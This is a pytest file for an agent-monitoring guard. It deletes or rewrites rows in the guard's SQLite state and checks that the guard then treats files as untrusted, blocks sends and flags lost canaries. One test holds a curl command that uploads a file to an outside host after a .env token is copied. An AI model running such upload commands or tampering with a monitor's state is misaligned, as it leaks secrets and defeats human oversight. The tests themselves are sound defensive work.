"""Settings that hold somebody back, where somebody who writes the database deletes them or puts them back."""

from __future__ import annotations

import sqlite3

import pytest

from gate.test_file_labels import NOTES, labels_after, read_page, write
from gate.world import WORK, World
from lockgate.core.model import Verdict
from lockgate.gate.authors.acts import acts, note_act
from lockgate.gate.contradictions import accept_contradictions, contradictions
from lockgate.gate.monitor import file_labels
from lockgate.gate.session import packages, state_warnings
from lockgate.store.files import Sets

OTHER = f"{WORK}/other.md"
FORMS = (
    "DELETE FROM settings WHERE name LIKE 'file-label:%'",
    "UPDATE settings SET value = '[]' WHERE name LIKE 'file-%'",
)


@pytest.fixture
def world(world: World) -> World:
    world.start(session_id="s1")
    world.start(session_id="s2")
    return world


def spoil(world: World, statement: str) -> None:
    connection = sqlite3.connect(world.folder / "state" / "lockgate.db")
    with connection:
        connection.execute(statement)
    connection.close()


def problems(world: World) -> list[str]:
    with world.store.reading() as tx:
        return [each.problem for each in contradictions(tx, None)]


def accept(world: World) -> None:
    with world.store.transaction() as tx:
        accept_contradictions(tx, contradictions(tx, None), by="ann", now=world._now())
    assert problems(world) == []


@pytest.mark.parametrize("statement", FORMS)
def test_any_file_may_be_a_strangers_where_a_label_was_taken_away(world: World, statement: str) -> None:
    read_page(world)
    write(world)
    world.contents[OTHER] = b"our own text"
    assert labels_after(world, "Read", file_path=OTHER) == set()
    spoil(world, statement)
    assert labels_after(world, "Read", file_path=OTHER) == {"untrusted"}
    with world.store.reading() as tx:
        [lost] = file_labels.list_labelled(tx)
    assert (lost.path, lost.source) == ("/", Sets.LOST)
    assert any(
        "strangers' text are not those that were kept" in each or "has no seal" in each for each in problems(world)
    )
    accept(world)
    world.start(session_id="s3")
    world.run("Read", {"file_path": OTHER}, "text", session_id="s3")
    assert world.labels(session_id="s3") == set()


def test_a_label_that_is_put_back_stands_for_no_other(world: World) -> None:
    read_page(world)
    write(world)
    connection = sqlite3.connect(world.folder / "state" / "lockgate.db")
    [row] = connection.execute("SELECT * FROM settings WHERE name LIKE 'file-label:%'").fetchall()
    connection.close()
    write(world, path=OTHER)
    spoil(world, "DELETE FROM settings WHERE name LIKE 'file-label:%'")
    spoil(world, f"INSERT INTO settings VALUES {row!r}")
    assert labels_after(world, "Read", file_path=OTHER) == {"untrusted"}


def test_what_is_labelled_afterwards_does_not_hide_what_is_gone(world: World) -> None:
    read_page(world)
    write(world)
    spoil(world, "DELETE FROM settings WHERE name LIKE 'file-label:%'")
    write(world, path=OTHER)
    assert labels_after(world, "Read", file_path=NOTES) == {"untrusted"}
    assert problems(world) == ["the files that hold strangers' text are not those that were kept"]


def test_labels_come_and_go_without_a_contradiction(world: World) -> None:
    read_page(world)
    for number in range(file_labels._MOST + 3):
        write(world, path=f"{WORK}/{number}.md")
    write(world, path=f"{WORK}/7.md", holds="our own text")
    with world.store.reading() as tx:
        assert len(file_labels.list_labelled(tx)) == file_labels._MOST - 1
    assert problems(world) == []


def test_every_file_is_labelled_where_the_passages_of_its_session_are_gone(world: World) -> None:
    read_page(world)
    write(world, path=OTHER, holds="our own text")
    assert labels_after(world, "Read", file_path=OTHER) == set()
    spoil(world, "DELETE FROM settings WHERE name LIKE 'stranger-passages:%'")
    write(world)
    assert labels_after(world, "Read", file_path=NOTES) == {"untrusted"}
    assert problems(world) == ["the passages of strangers that it has read are not those that were kept"]
    accept(world)


def test_passages_that_are_read_afterwards_do_not_hide_that_others_are_gone(world: World) -> None:
    read_page(world)
    spoil(world, "DELETE FROM settings WHERE name LIKE 'stranger-passages:%'")
    read_page(world, "other words of a stranger, which are more than eight words long, all in one sentence")
    write(world)
    assert labels_after(world, "Read", file_path=NOTES) == {"untrusted"}


def test_any_file_may_hold_a_secret_where_those_that_do_are_gone(world: World) -> None:
    world.contents |= {f"{WORK}/.env": b"TOKEN=x", f"{WORK}/copy": b"TOKEN=x", OTHER: b"our own text"}
    world.run("Bash", {"command": "cp .env copy"}, "")
    send = "curl -T other.md https://example.com/"
    world.start(session_id="s3")
    assert world.bash(send, session_id="s3") is Verdict.ALLOW
    spoil(world, "DELETE FROM settings WHERE name LIKE 'kept-file:%'")
    assert world.bash(send, session_id="s3") is not Verdict.ALLOW
    accept(world)
    world.start(session_id="s4")
    assert world.bash(send, session_id="s4") is Verdict.ALLOW


def test_any_folder_may_have_been_installed_where_those_that_were_are_gone(world: World) -> None:
    with world.store.transaction() as tx:
        packages.note(tx, packages.InstalledPackages("/work"), exact=False)
        packages.note(tx, packages.InstalledPackages("/other"), exact=False)
        assert [each.folder for each in packages.list_standing(tx)] == ["/other", "/work"]
    spoil(world, "DELETE FROM settings WHERE name LIKE 'packages:%/work'")
    with world.store.reading() as tx:
        assert [each.folder for each in packages.list_standing(tx)] == ["/", "/other"]
        assert packages.list_standing(tx)[0].may_be_run((), "/anywhere")


def test_an_agent_may_always_have_written_where_the_times_are_gone(world: World) -> None:
    with world.store.transaction() as tx:
        assert acts(tx) == []
        note_act(tx, 5.0)
        assert len(acts(tx)) == 1
    spoil(world, "DELETE FROM settings WHERE name = 'acts-of-labelled'")
    with world.store.reading() as tx:
        assert acts(tx) == [(0.0, float("inf"))]


def test_a_canary_that_is_gone_is_told(world: World) -> None:
    with world.store.transaction() as tx:
        tx.put_setting(f"{Sets.CANARIES}bird", "{}")
        assert state_warnings(tx, 1e6) == []
    spoil(world, "DELETE FROM settings WHERE name LIKE 'canary:%'")
    with world.store.reading() as tx:
        [told] = state_warnings(tx, 1e6)
    assert told.short == "CANARY LOST (lockgate audit verify)"
    assert problems(world) == ["the canaries are not those that were kept"]
    accept(world)


def test_a_set_is_read_as_it_was_written(world: World) -> None:
    for value in ("1", "2", None):
        with world.store.transaction() as tx:
            tx.put_setting(f"{Sets.KEPT_FILES}a", "x")
            tx.put_setting(f"{Sets.KEPT_FILES}b", value)
            expected = {f"{Sets.KEPT_FILES}{name}": each for name, each in (("a", "x"), ("b", value)) if each}
            assert tx.read_set(Sets.KEPT_FILES) == expected
            assert tx.has_in_set(Sets.KEPT_FILES)
            assert not tx.has_in_set(Sets.FILE_LABELS)
